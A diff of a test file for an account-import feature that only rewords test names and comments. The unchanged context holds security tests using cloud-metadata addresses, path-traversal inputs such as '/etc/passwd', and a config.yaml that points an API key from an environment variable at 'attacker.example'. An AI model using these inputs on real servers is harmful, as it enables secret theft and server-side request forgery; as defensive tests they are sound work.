@@ -1,4 +1,4 @@
-// An import can create accounts of any role. It reads a database that somebody names, or a file with any content.
+// An import can create accounts of any role. It reads a database at any URL, or an uploaded file with any content.
 import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test'
 import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
 import { createServer } from 'node:net'
@@ -47,7 +47,7 @@ test('only the address of a database server is accepted: no file, no socket, no 
   })
 })
 
-test('a host name is connected to at the address that was checked, which is never a cloud metadata service', async () => {
+test('for a host name, the import connects to the IP address that was checked, and never to a cloud metadata service', async () => {
   for (const host of ['169.254.169.254', 'metadata.google.internal', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe'])
     await expect(operatorAddress(host)).rejects.toThrow('metadata')
   await expect(operatorAddress('rebound.example', async () => ['10.0.0.1', '169.254.169.254'])).rejects.toThrow(
@@ -114,7 +114,7 @@ forEachDatabase((_, openFresh) => {
     expect(existsSync(folder())).toBe(false)
   })
 
-  test('a bad address is refused before any connection is made, and no response contains the password', async () => {
+  test('an invalid database URL is refused before any connection is made, and no response contains the password', async () => {
     const start = (body: object) => call('POST', '/api/import/', root, { dry_run: true, ...body })
     for (const address of [
       '/etc/passwd',
@@ -153,7 +153,7 @@ forEachDatabase((_, openFresh) => {
       expect(JSON.stringify(await call('GET', path, root))).not.toContain('secret-pass')
   })
 
-  test('a file that is not of the kind that it claims is refused, and no part of it is kept', async () => {
+  test('an uploaded file that is not a database or config.yaml of a supported kind is refused, and nothing of it is kept', async () => {
     for (const bytes of [
       '',
       'hello',
@@ -201,7 +201,7 @@ forEachDatabase((_, openFresh) => {
     expect(statSync(join(folder(), `${data.id}.db`)).mode & 0o777).toBe(0o600)
     for (const upload of ['../secret', `${'a'.repeat(31)}/`, '/etc/passwd', 'A'.repeat(32)])
       expect((await call('POST', '/api/import/', root, { upload, dry_run: true })).success).toBe(false)
-    // If the stored report names another file, that file cannot be downloaded.
+    // If the path of a report in the database leads to another file, this file cannot be downloaded.
     const precious = join(set.api.dataDir, 'imports', 'precious.txt')
     writeFileSync(precious, 'secret')
     const started = await call('POST', '/api/import/', root, { upload: data.id, upload_name: data.name, dry_run: true })
@@ -221,7 +221,7 @@ forEachDatabase((_, openFresh) => {
     }
   })
 
-  test('a config.yaml cannot read the environment of the server', async () => {
+  test('an uploaded config.yaml cannot read the server’s environment variables', async () => {
     const config = `model_list:
   - model_name: gpt-4o
     litellm_params: { model: openai/gpt-4o, api_key: os.environ/PATH, api_base: "https://attacker.example" }
@@ -239,7 +239,7 @@ forEachDatabase((_, openFresh) => {
     expect(JSON.stringify(report)).not.toContain(process.env['PATH'] ?? '')
   })
 
-  test('sources are forgotten and files deleted after a day', async () => {
+  test('after a day, uploaded files are deleted and old imports can no longer be continued', async () => {
     await send(sample())
     set.api.time.ms += 25 * 3_600_000
     for (const { run } of set.api.imports.jobs) await run()
